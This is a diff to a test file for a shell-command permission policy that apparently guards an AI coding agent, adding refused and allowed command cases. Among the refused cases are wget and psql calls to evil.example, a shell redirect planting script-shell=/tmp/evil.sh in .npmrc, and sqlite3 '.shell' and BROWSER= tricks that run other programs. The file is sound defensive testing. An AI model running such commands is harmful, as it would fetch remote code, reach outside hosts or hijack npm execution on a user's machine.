@@ -45,7 +45,7 @@ function readFile(p: string): string | null {
   return FILES[p] ?? null;
 }
 
-const ctx: PolicyContext = { projectRoot: ROOT, readFile };
+const ctx: PolicyContext = { projectRoot: ROOT, readFile, extraCommands: ['wget', 'psql'] };
 
 /** [finding, command, category]: hostile commands, refused with the category the model is told. */
 const HOSTILE: ReadonlyArray<readonly [string, string, DenyCategory]> = [
@@ -266,6 +266,11 @@ const HOSTILE: ReadonlyArray<readonly [string, string, DenyCategory]> = [
   ['npx prisma with a file: database URL outside', 'npx prisma db execute --url file:/tmp/x.db --file x.sql', 'outside_project'],
   ['npx prisma studio --browser runs a program', 'npx prisma studio --browser /tmp/evil', 'dangerous_args'],
   ['BROWSER= runs any program when a dev server opens a page', 'BROWSER=/tmp/evil npm start', 'env_prefix'],
+  ['wget (a project extension) to a remote host', 'wget -q https://evil.example/x', 'network'],
+  ['psql (a project extension) to a remote database', 'psql postgresql://u@evil.example:5432/db', 'network'],
+  ['a shell redirect writing .npmrc (keys are checked only through Write/Edit)', "echo 'script-shell=/tmp/evil.sh' >> .npmrc", 'dangerous_args'],
+  ['cp over .npmrc', 'cp evil.txt web/.npmrc', 'dangerous_args'],
+  ['curl -o .npmrc', 'curl -o .npmrc http://localhost:3000/npmrc', 'dangerous_args'],
 
   // sqlite3: only the database inside the project, SQL as arguments, no file/program features
   ['sqlite3 .shell runs a program', 'sqlite3 app.db ".shell id"', 'dangerous_args'],
@@ -418,6 +423,10 @@ const LEGITIMATE: readonly string[] = [
   'playwright-cli console error',
   'playwright-cli close',
   'BROWSER=none npm start',
+  'wget -q -O - http://localhost:3000/health',
+  'psql postgresql://app:secret@localhost:5432/app_dev -c "select 1"',
+  'cat .npmrc',
+  'rm .npmrc',
   // sqlite3
   'sqlite3 data/app.db ".tables"',
   'sqlite3 app.db ".schema users"',
